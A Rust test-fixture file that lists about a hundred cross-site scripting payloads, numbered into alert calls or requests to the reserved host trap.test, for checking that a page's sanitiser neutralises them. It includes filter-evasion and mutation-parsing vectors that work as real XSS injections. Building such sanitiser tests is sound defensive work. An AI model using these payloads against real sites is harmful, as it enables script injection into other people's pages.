//! Texts that would run in a browser, or make it ask somebody else for something, if a page let them be more than text.
//!
//! Each names itself by its number when it runs: it calls `alert(N)`, or asks `trap.test` for `/N`. So a test can show
//! that a careless page runs every one of them, and ours none.

/// Where those that load something load it from. Nobody is there: `.test` is reserved (RFC 6761).
pub const TRAP: &str = "trap.test";

/// Every text, at the place that is its number.
pub fn scripts() -> Vec<String> {
    let numbered = |(number, text): (usize, &&str)| text.replace("%N", &number.to_string());
    TEXTS.iter().enumerate().map(numbered).collect()
}

#[rustfmt::skip]
const TEXTS: &[&str] = &[
    // Elements that run.
    "<script>alert(%N)</script>",
    "<ScRiPt >alert(%N)</sCrIpT >",
    "<script\n>alert(%N)</script\t\n>",
    "<script/x>alert(%N)</script>",
    "<script src=//trap.test/%N></script>",
    "<script type=module>alert(%N)</script>",
    "<svg><script>alert(%N)</script></svg>",
    "<svg><script>alert&#40;%N&#41;</script></svg>",
    "<svg><script href=//trap.test/%N></script></svg>",
    "<b><script>/*</b>*/alert(%N)</script>",
    // Handlers that need nobody's help.
    "<img src=x onerror=alert(%N)>",
    "<img src=x onerror=\"alert(%N)\">",
    "<img/src=\"x\"/onerror=alert(%N)>",
    "<img src=x:x onerror=alert`%N`>",
    "<image src=x onerror=alert(%N)>",
    "<img src=x onerror=&#97;lert(%N)>",
    "<img src=x onerror=&#x61lert(%N)>",
    "<img src=x onerror=\\u0061lert(%N)>",
    "<IMG SRC=X ONERROR=\"window['al'+'ert'](%N)\">",
    "<img src=x onerror=import('//trap.test/%N')>",
    "<svg onload=alert(%N)>",
    "<svg/onload=alert(%N)//",
    "<svg><animate onbegin=alert(%N) attributeName=x dur=1s>",
    "<svg><set onbegin=alert(%N) attributeName=x>",
    "<video><source onerror=alert(%N)>",
    "<video src=x onerror=alert(%N)></video>",
    "<audio src=x onerror=alert(%N)>",
    "<body onload=alert(%N)>",
    "<iframe onload=alert(%N)></iframe>",
    "<iframe src=javascript:alert(%N)></iframe>",
    "<iframe srcdoc=\"<script>alert(%N)</script>\"></iframe>",
    "<iframe srcdoc='&lt;img src=x onerror=alert(%N)&gt;'></iframe>",
    "<object data=javascript:alert(%N) onerror=alert(%N)></object>",
    "<input autofocus onfocus=alert(%N)>",
    "<textarea autofocus onfocus=alert(%N)></textarea>",
    "<a id=x tabindex=1 autofocus onfocus=alert(%N)>x</a>",
    "<details open ontoggle=alert(%N)><summary>x</summary></details>",
    "<style>@keyframes k{}</style><p style=animation-name:k onanimationstart=alert(%N)>x</p>",
    "<link rel=stylesheet href=data:, onload=alert(%N)>",
    "<style onload=alert(%N)></style>",
    "<math><mtext><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=alert(%N)&gt;\"><img src=x onerror=alert(%N)>",
    "<svg></p><style><a id=\"</style><img src=x onerror=alert(%N)>\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(%N)>\">",
    "<template><script></script></template><img src=x onerror=alert(%N)>",
    "<table><td><img src=x onerror=alert(%N)>",
    "<isindex><keygen><marquee onstart=alert(%N)>x</marquee>",
    // Handlers and links that wait for somebody to move, click or press.
    "<p onmouseover=alert(%N)>x",
    "<p onpointerenter=alert(%N)>x",
    "<button onclick=alert(%N)>x</button>",
    "<a href=javascript:alert(%N)>x</a>",
    "<a href=\"jAvAsCrIpT&colon;alert(%N)\">x</a>",
    "<a href=\"java\tscript:alert(%N)\">x</a>",
    "<a href=\"&#1;javascript:alert(%N)\">x</a>",
    "<a href=\"data:text/html,<script>alert(%N)</script>\">x</a>",
    "<svg><a href=javascript:alert(%N)><text y=9>x</text></a></svg>",
    "<math><a xlink:href=javascript:alert(%N) href=javascript:alert(%N)>x</a></math>",
    "<form action=javascript:alert(%N)><button>x</button></form>",
    "<button formaction=javascript:alert(%N)>x</button>",
    "<form><input type=submit formaction=javascript:alert(%N)></form>",
    // Out of an attribute.
    "\" onmouseover=\"alert(%N)",
    "' onmouseover='alert(%N)",
    " onmouseover=alert(%N) x=",
    "\"><img src=x onerror=alert(%N)>",
    "'><img src=x onerror=alert(%N)>",
    "\"><svg/onload=alert(%N)>",
    "x\"onfocus=\"alert(%N)\"autofocus=\"",
    "`><img src=x onerror=alert(%N)>",
    // Out of elements whose content is no markup.
    "</title><img src=x onerror=alert(%N)>",
    "</textarea><img src=x onerror=alert(%N)>",
    "</style><img src=x onerror=alert(%N)>",
    "</script><img src=x onerror=alert(%N)>",
    "</noscript><img src=x onerror=alert(%N)>",
    "</template><img src=x onerror=alert(%N)>",
    "<!--</script><script>alert(%N)</script>-->",
    "--><img src=x onerror=alert(%N)>",
    "--!><img src=x onerror=alert(%N)>",
    "]]><img src=x onerror=alert(%N)>",
    // What a link or a picture may not be.
    "javascript:alert(%N)",
    "JaVaScRiPt:alert(%N)",
    "\u{1}javascript:alert(%N)",
    "java\nscript:alert(%N)",
    "javascript://x/%0aalert(%N)",
    "data:text/html,<script>alert(%N)</script>",
    // Somebody else is asked.
    "<img src=//trap.test/%N>",
    "<img src=\"https://trap.test/%N\">",
    "<img srcset=\"//trap.test/%N 1x\">",
    "<picture><source srcset=//trap.test/%N><img></picture>",
    "<video poster=//trap.test/%N></video>",
    "<input type=image src=//trap.test/%N>",
    "<link rel=stylesheet href=//trap.test/%N>",
    "<link rel=preload as=image href=//trap.test/%N>",
    "<style>@import '//trap.test/%N';</style>",
    "<p style=\"background:url(//trap.test/%N)\">x</p>",
    "<p style=\"list-style:url(//trap.test/%N);display:list-item\">x</p>",
    "\" style=\"background:url(//trap.test/%N)\" x=\"",
    "<style>*{background:url(//trap.test/%N)}</style>",
    "}*{background:url(//trap.test/%N)}",
    "<iframe src=//trap.test/%N></iframe>",
    "<object data=//trap.test/%N></object>",
    "<embed src=//trap.test/%N>",
    "<base href=//trap.test/%N/><img src=x>",
    "<meta http-equiv=refresh content='0;url=//trap.test/%N'>",
    "<svg><image href=//trap.test/%N></svg>",
    "<table background=//trap.test/%N><tr><td>x</table>",
];

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;

    use super::*;

    #[test]
    fn each_text_is_its_own_and_says_its_number() {
        let scripts = scripts();
        assert_eq!(scripts.iter().collect::<BTreeSet<_>>().len(), scripts.len());
        for (number, text) in scripts.iter().enumerate() {
            assert!(text.contains(&number.to_string()) && !text.contains("%N"), "{text}");
            assert!(text.contains(TRAP) || text.contains("lert") || text.contains("al'+'ert"), "{text}");
        }
    }
}
